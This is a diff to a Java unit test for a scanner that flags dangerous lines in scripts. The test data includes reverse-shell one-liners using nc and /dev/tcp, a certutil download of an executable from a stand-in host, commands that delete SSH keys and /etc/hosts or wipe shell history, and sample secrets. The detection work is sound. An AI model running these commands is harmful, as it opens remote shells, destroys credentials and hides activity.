@@ -38,6 +38,17 @@ class DangersTest {
                 "DELETES § find . -name '*.bak' -delete",
                 "DELETES § git clean -xdf",
                 "DELETES § shutil.rmtree(path)",
+                "FETCHES § certutil.exe -urlcache -split -f http://x.example/a.exe a.exe",
+                "FETCHES § nc -e /bin/sh x.example 4444",
+                "FETCHES § bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                "DELETES § rm -f ~/.ssh/id_rsa",
+                "DELETES § rm -vf one \"$HOME/.ssh/id_rsa\"",
+                "DELETES § rm --force /etc/hosts",
+                "DELETES § find ~ -name '*.key' -exec rm {} +",
+                "DELETES § find . -type f | xargs -0 rm",
+                "DELETES § FileUtils.rm_rf(Dir.home)",
+                "DELETES § shred -u ~/.ssh/id_rsa",
+                "DELETES § truncate -s 0 ~/.bash_history",
                 "CONCEALED § echo ZWNobyBoaQ== | base64 -d | sh",
                 "CONCEALED § eval(atob('YWxlcnQoMSk='))",
                 "CONCEALED § exec(base64.b64decode('aW1wb3J0IG9z'))",
@@ -70,6 +81,54 @@ class DangersTest {
     }
 
     @ParameterizedTest
+    @CsvSource(
+            delimiter = '§',
+            quoteCharacter = '¤',
+            value = {
+                "FETCHES § a.sh § git clone https://x.example/a.git",
+                "FETCHES § a.py § subprocess.run(['git', 'clone', address])",
+                "FETCHES § a.sh § aria2c -x4 https://x.example/a",
+                "FETCHES § a.sh § scp me@x.example:a .",
+                "FETCHES § a.bat § certutil -urlcache -f http://x.example/a a",
+                "DELETES § a.js § fs.rmSync(HOME, {recursive: true})",
+                "DELETES § a.js § await fs.promises.rm(home, options)",
+                "DELETES § a.mjs § unlinkSync(key)",
+                "DELETES § a.js § await rimraf(home)",
+                "DELETES § a.rb § FileUtils.rm_rf home",
+                "DELETES § a.rb § FileUtils.rm key",
+                "DELETES § a.py § os.remove(key)",
+                "DELETES § a.py § os.unlink(key)",
+                "DELETES § a.py § shutil.rmtree(home)",
+                "DELETES § a.py § Path(key).unlink()",
+                "DELETES § a.sh § shred key"
+            })
+    void findsInScriptsWhatATextWouldOnlySpeakOf(Kind kind, String file, String line) {
+        assertThat(Dangers.in(file, "first\n  " + line + "\n"))
+                .extracting(Danger::kind, Danger::line)
+                .containsExactly(tuple(kind, 2));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "rm -f build.log",
+                "rm -f out/*.o",
+                "  // fs.rmSync(home) is what we never do",
+                "# os.remove(key) neither",
+                "confirm -f /etc/hosts",
+                "clone = git.repository",
+                "sync -e now",
+                "items.remove(key); os.path.join(a, b)",
+                "scp = 3; rsync = shredded",
+                "file.deleted = true; dir.deleteLater",
+                "find . -name '*.md' -exec grep -l x {} +"
+            })
+    void raisesNoFalseAlarmInScripts(String line) {
+        assertThat(Dangers.in("a.sh", line)).isEmpty();
+        assertThat(Dangers.in("a.js", line)).isEmpty();
+    }
+
+    @ParameterizedTest
     @ValueSource(
             strings = {
                 "aws = AKIA" + "IOSFODNN7EXAMPLQ",
@@ -79,6 +138,7 @@ class DangersTest {
                 "xoxb-" + "123456789012-abcdefABCDEF123456",
                 "\"API_KEY\": \"f3b9c1d7e5a24680\"",
                 "password = 'Tr0ub4dor&3xyz'",
+                "password = \"hunter2hunter2\"",
                 "export MY_SECRET=9fK2-pQ7z_LmX4vB",
                 "Authorization: Bearer 3f9aB7xQ2mZ8kL1pR6tY",
                 "postgres://app:hunter2rocks@db.internal/app",
@@ -109,6 +169,10 @@ class DangersTest {
                 "Use sk-folding-cube and sk-loading-animation-with-many-words for spinners",
                 "the token that comes with each request is checked 2 times",
                 "A skill tells an agent to curl an address, or to remove what is old.",
+                "Use rm -f with care, and git clone or scp as you like; os.remove() deletes a file.",
+                "Run `git clone https://x.example/a.git`, and truncate the text where it is too long.",
+                "We shred papers. The rimraf package and FileUtils delete files; fs.rmdir() folders.",
+                "password: my_password_2024, passwd = aaaaaaaaaaa1",
                 "rm the old file; then form -r is used",
                 "Information: -rf is short for two options",
                 "Evaluate the base of the argument, then execute it.",
